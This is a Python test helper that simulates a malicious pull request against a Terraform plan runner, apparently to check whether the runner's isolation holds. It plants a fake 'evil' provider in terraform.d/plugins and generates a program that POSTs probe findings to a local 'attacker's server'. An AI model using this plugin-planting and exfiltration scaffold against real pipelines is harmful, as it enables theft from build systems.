"""A stranger's pull request, and the server to which its code sends what it finds.

The code runs where plan code runs for real: as a provider. Terraform takes one from `terraform.d/plugins` in the
project's directory and starts it when it plans. It speaks no provider protocol; it has then done its work.
"""

from __future__ import annotations

import json
import platform
import socket
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

_ARCHITECTURE = {"x86_64": "amd64", "aarch64": "arm64"}.get(platform.machine(), platform.machine())
PROVIDER = f"terraform.d/plugins/registry.terraform.io/evil/evil/1.0.0/linux_{_ARCHITECTURE}/terraform-provider-evil"

NEEDS_IT = """
terraform {
  required_providers {
    evil = { source = "evil/evil" }
  }
}
resource "evil_thing" "x" {}
"""


def own_address() -> str | None:
    """An address of this machine that is not loopback's, None if it has none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # sends nothing: asks the routes alone
        except OSError:
            return None
        address: str = probe.getsockname()[0]
        return address


class Collector:
    """What the attacker's server was sent, by name, and how often it was called at all."""

    def __init__(self, address: str) -> None:
        self.found: dict[str, Any] = {}
        self.calls = 0
        collector = self

        class Answer(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                collector.calls += 1
                collector.found.update(json.loads(body))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                """Says nothing."""

        self._server = ThreadingHTTPServer((address, 0), Answer)
        self.url = f"http://{address}:{self._server.server_port}/"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(10)


@contextmanager
def collecting(address: str) -> Iterator[Collector]:
    collector = Collector(address)
    collector.start()
    try:
        yield collector
    finally:
        collector.stop()


@contextmanager
def relayed(address: str, port: int) -> Iterator[int]:
    """A port at `address` behind which is `port` of loopback: where isolated engines find the stand-in's states."""
    listening = socket.create_server((address, 0))

    def accept() -> None:
        while True:
            try:
                client, _ = listening.accept()
            except OSError:
                return
            threading.Thread(target=_join, args=(client, socket.create_connection(("127.0.0.1", port)))).start()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield listening.getsockname()[1]
    finally:
        listening.shutdown(socket.SHUT_RDWR)
        listening.close()
        thread.join(10)


def _join(client: socket.socket, server: socket.socket) -> None:
    """Pass on what each says to the other, until one has nothing more to say."""
    back = threading.Thread(target=_pass_on, args=(server, client))
    back.start()
    _pass_on(client, server)
    back.join()
    client.close()
    server.close()


def _pass_on(source: socket.socket, sink: socket.socket) -> None:
    with suppress(OSError):
        while data := source.recv(65536):
            sink.sendall(data)
    for end in (source, sink):
        with suppress(OSError):
            end.shutdown(socket.SHUT_RDWR)


def provider(probes: str, facts: Mapping[str, object]) -> str:
    """The program: runs `probes`, Python in which `facts` are names and `tell(name, value)` reports."""
    named = "\n".join(f"{name} = {value!r}" for name, value in facts.items())
    return f"""#!/usr/bin/env python3
import glob, json, os, socket, subprocess, sys, time, urllib.request
{named}
OPENER = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))

def tell(name, value):
    body = json.dumps({{name: value}}).encode()
    OPENER.open(urllib.request.Request(COLLECTOR, body, method="POST"), timeout=10).close()

def outcome(act, *arguments):
    try:
        return ["did", str(act(*arguments))[:2000]]
    except BaseException as error:
        return ["failed", type(error).__name__ + ": " + str(error)]

{probes}
"""
